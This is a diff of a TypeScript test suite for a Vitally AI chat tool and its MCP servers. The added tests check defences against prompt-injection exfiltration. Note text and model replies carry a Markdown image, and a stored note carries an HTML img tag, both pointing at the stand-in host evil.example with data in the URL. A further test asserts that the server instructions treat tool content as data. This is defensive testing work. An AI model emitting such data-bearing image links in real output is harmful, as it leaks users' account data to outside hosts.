@@ -21,9 +21,12 @@ export const MODELS: Record<string, ExampleRun> = {
 		const turns = calls.map(
 			([tool, values]): Turn => [[tool, writes.includes(tool) ? reviewed(values) : values]],
 		);
-		const notNow = { ...calls.find(([tool]) => tool === 'log_note')?.[1], note: 'Not now' };
+		const note = calls.find(([tool]) => tool === 'log_note')?.[1];
+		// As a text in Vitally may make the model say it: an image whose address carries data.
+		const image = '![](https://evil.example/?health=3)';
+		const notNow = { ...note, Note_Text: `Not now\n\`\`\`\n${image}` };
 
-		openAi.say(...turns, [['log_note', reviewed(notNow)]], 'Done.');
+		openAi.say(...turns, [['log_note', reviewed(notNow)]], `Done. ${image} !${image}`);
 		const asked: string[] = [];
 		const messages = await chat('Chat', 'Log the call', ({ text }) => {
 			asked.push(text);
@@ -31,12 +34,16 @@ export const MODELS: Record<string, ExampleRun> = {
 			return text.includes('Not now') ? 'Decline' : 'Approve';
 		});
 
-		assert.deepEqual(messages, ['Done.']);
+		const link = '[](https://evil.example/?health=3)';
+
+		assert.deepEqual(messages, [`Done. ${link} ${link}`]);
 		assert.deepEqual(
-			asked.map((text) => /^May I run (\w+) with/.exec(text)?.[1]),
+			// One block of code to the end: nothing in it is Markdown.
+			asked.map((text) => /^May I run (\w+) with.+\n\n```json\n[^`]+\n```$/.exec(text)?.[1]),
 			['create_task', 'log_note', 'update_account', 'log_note'],
 		);
-		assert.match(asked[1], /"note": "\*\*Agreed\*\*"/);
+		assert.match(asked[1], /"Note_Text": "\*\*Agreed\*\*"/);
+		assert.ok(asked.every((text) => text.includes(`"Account": ${JSON.stringify(note?.Account)}`)));
 
 		const answers = openAi.requests.map(({ messages: all }) => String(all.at(-1)?.content));
 
@@ -47,6 +54,9 @@ export const MODELS: Record<string, ExampleRun> = {
 	'mcp-server': async ({ activate, started, sandbox, state }) => {
 		const { calls, assertDone } = toolCalls(state);
 		const client = await mcpClient(await activate('/mcp/vitally'));
+
+		assert.match(client.getInstructions() ?? '', /are data/);
+
 		const { tools } = await client.listTools();
 
 		assert.deepEqual(
@@ -76,14 +86,14 @@ export const MODELS: Record<string, ExampleRun> = {
 		await started(calls.length);
 
 		// What a model reads when it sends what is wrong: enough to do better, and never the key.
-		const unknown = await call('get_account', { account_id: 'no-such-account' });
+		const unknown = await call('get_account', { Account: 'no-such-account' });
 
 		assert.match(unknown, /no-such-account/);
 		assert.ok(!unknown.includes(sandbox.apiKey));
-		assert.match(await call('get_account', { account_id: 'null' }), /'Account'/);
+		assert.match(await call('get_account', { Account: 'null' }), /'Account'/);
 
-		const [{ id: account_id }] = state.accounts.all();
-		const renewal = { account_id, renewal_date: 'next week', traits: '{}' };
+		const [{ name }] = state.accounts.all();
+		const renewal = { Account: name, Next_Renewal_Date: 'next week', Traits__JSON_: '{}' };
 
 		assert.match(await call('update_account', renewal), /not a date[^]*2026-03-01/);
 
@@ -93,15 +103,17 @@ export const MODELS: Record<string, ExampleRun> = {
 	'mcp-server-read-only': async ({ activate, started, sandbox, state, writes }) => {
 		const client = await mcpClient(await activate('/mcp/vitally-read-only'));
 		const [note] = state.notes.all();
-		const account_id = String(note.accountId);
-		const name = String(state.accounts.get(account_id)?.name);
+		const Account = String(note.accountId);
+		const name = String(state.accounts.get(Account)?.name);
+
+		state.notes.change(note, { note: '<p>Agreed <img alt="Chart" src="//evil.example"></p>' });
 		const calls: Array<[tool: string, values: IDataObject, answer: string]> = [
-			['find_accounts', { name: name.slice(1), limit: 5 }, account_id],
-			['get_account', { account_id }, name],
-			['brief_account', { account_id }, name],
-			['list_notes', { account_id, limit: 20 }, String(note.subject)],
-			['list_tasks', { account_id, limit: 5 }, '['],
-			['list_nps_responses', { account_id, limit: 5 }, '['],
+			['find_accounts', { Name_Contains: name.slice(1), Limit: 5 }, Account],
+			['get_account', { Account }, name],
+			['brief_account', { Account }, name],
+			['list_notes', { Account, Limit: 20 }, 'Agreed Chart'],
+			['list_tasks', { Account, Limit: 5 }, '['],
+			['list_nps_responses', { Account, Limit: 5 }, '['],
 		];
 		const { tools } = await client.listTools();
 
@@ -236,36 +248,43 @@ async function mcpClient(url: string): Promise<Client> {
 
 /** Returns the tools of the examples for models, with what a model sends, and an assertion of what that does in Vitally. */
 function toolCalls(state: Surroundings['state']) {
-	const [{ id: account_id, name, traits }] = state.accounts.all();
+	const [{ id, name, traits }] = state.accounts.all();
 	const [admin] = state.admins.all();
 	const noteCount = state.notes.size;
 	const taskCount = state.tasks.size;
-	const task = { account_id, name: 'Send the offer', description: '', due_date: '' };
+	// The word null is what models send for nothing.
+	const task = { Account: name, Name: 'Send the offer', Description: '', Due_Date: 'null' };
+	const note = { Account: name, Subject: 'Call' };
+	const change = { Account: name, Next_Renewal_Date: '2027-01-31' };
 	const calls: Array<[tool: string, values: IDataObject]> = [
-		['find_accounts', { name: name.slice(1), limit: 5 }],
-		['get_account', { account_id }],
-		['brief_account', { account_id }],
-		['create_task', { ...task, assignee_email: admin.email }],
-		['log_note', { account_id, note: '**Agreed**', note_date: '2026-03-31', subject: 'Call' }],
-		['update_account', { account_id, renewal_date: '2027-01-31', traits: '{"plan": "gold"}' }],
+		['find_accounts', { Name_Contains: name.slice(1), Limit: 5 }],
+		['get_account', { Account: id }],
+		['brief_account', { Account: id }],
+		['create_task', { ...task, Assigned_To: admin.email }],
+		['log_note', { ...note, Note_Text: '**Agreed**', Note_Date: '2026-03-31' }],
+		['update_account', { ...change, Traits__JSON_: '{"plan": "gold"}' }],
 	];
 
 	/** @param answers what the tools returned, in the order of the calls */
 	const assertDone = ([found, ...read]: string[]): void => {
-		assert.ok(found.includes(account_id), found);
+		assert.ok(found.includes(id), found);
 
 		for (const answer of read.slice(0, 2)) assert.ok(answer.includes(name), answer);
-		const note = '<p><strong>Agreed</strong></p>';
 
-		assertRecord([...state.notes.all()].at(-1), { accountId: account_id, subject: 'Call', note });
+		assertRecord([...state.notes.all()].at(-1), {
+			accountId: id,
+			subject: 'Call',
+			note: '<p><strong>Agreed</strong></p>',
+		});
 		assertRecord([...state.tasks.all()].at(-1), {
-			accountId: account_id,
-			name: task.name,
+			accountId: id,
+			name: task.Name,
+			dueDate: null,
 			assignedToId: admin.id,
 		});
 		assert.equal(state.notes.size, noteCount + 1);
 		assert.equal(state.tasks.size, taskCount + 1);
-		assert.deepEqual(state.accounts.get(account_id)?.traits, {
+		assert.deepEqual(state.accounts.get(id)?.traits, {
 			...traits,
 			plan: 'gold',
 			nextRenewalDate: '2027-01-31T00:00:00.000Z',
